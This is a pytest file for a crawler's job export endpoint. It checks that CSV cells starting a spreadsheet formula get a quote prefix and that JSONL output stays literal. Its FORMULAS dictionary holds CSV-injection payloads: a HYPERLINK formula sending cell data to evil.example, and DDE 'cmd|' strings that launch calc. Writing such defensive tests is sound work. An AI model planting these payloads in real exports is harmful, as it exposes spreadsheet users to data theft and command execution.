"""GET /v1/jobs/{id}/export: text a crawled site controls (its URLs, headers, error pages) must not
turn into a formula when the CSV is opened in a spreadsheet (OWASP "CSV injection"); JSON lines stay
literal. SPEC: "Beyond the core [ours]" (export). Issue "Reliability and security".
"""
from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from sqlalchemy.orm import Session

from db.models import Task

# One text per character a spreadsheet reads as the start of a formula.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
TEXT_COLUMNS = ("url", "referrer", "final_url", "content_type", "error")


def add_task(engine, job_id: str, **fields) -> None:
    url = fields.setdefault("url", "https://example.com/")
    fields = {"found_via": "link", "status": "failed", "http_status": 404, "depth": 2, "bytes": 0,
              "response_time_ms": 0, "redirect_hops": 0, **fields}  # fmt: skip
    with Session(engine) as session, session.begin():
        session.add(Task(job_id=job_id, url_hash=hashlib.sha1(url.encode()).hexdigest()[:16], **fields))


def export(client, org, job_id: str, fmt: str) -> str:
    response = client.get(f"/v1/jobs/{job_id}/export", query_string={"format": fmt}, headers=org.headers)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.get_data(as_text=True)


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", FORMULAS.values(), ids=FORMULAS.keys())
def test_csv_cells_starting_a_formula_are_prefixed_with_a_quote(client, org, make_job, engine, formula):
    job_id = make_job(org, status="completed")
    add_task(engine, job_id, **{column: formula for column in TEXT_COLUMNS})

    [row] = csv_rows(export(client, org, job_id, "csv"))

    for column in TEXT_COLUMNS:
        assert row[column] == "'" + formula, column


def test_csv_leaves_ordinary_text_and_numbers_alone(client, org, make_job, engine):
    job_id = make_job(org, status="completed")
    add_task(engine, job_id, url="https://example.com/a-b?x=-1", referrer="https://example.com/", error="HTTP 404",
             content_type="text/html; charset=utf-8", depth=0, http_status=404, bytes=1234, is_broken=True)  # fmt: skip

    [row] = csv_rows(export(client, org, job_id, "csv"))

    assert row["url"] == "https://example.com/a-b?x=-1"
    assert row["referrer"] == "https://example.com/"
    assert row["error"] == "HTTP 404"
    assert row["content_type"] == "text/html; charset=utf-8"
    assert (row["depth"], row["http_status"], row["bytes"], row["is_broken"]) == ("0", "404", "1234", "true")


def test_jsonl_export_keeps_the_same_text_literal(client, org, make_job, engine):
    job_id = make_job(org, status="completed")
    for index, formula in enumerate(FORMULAS.values()):
        add_task(engine, job_id, url=f"{formula}{index}", referrer=formula, error=formula, content_type=formula)

    lines = [json.loads(line) for line in export(client, org, job_id, "jsonl").splitlines()]

    assert [(line["referrer"], line["error"], line["content_type"]) for line in lines] == [
        (formula, formula, formula) for formula in FORMULAS.values()
    ]
    assert [line["url"] for line in lines] == [f"{formula}{index}" for index, formula in enumerate(FORMULAS.values())]
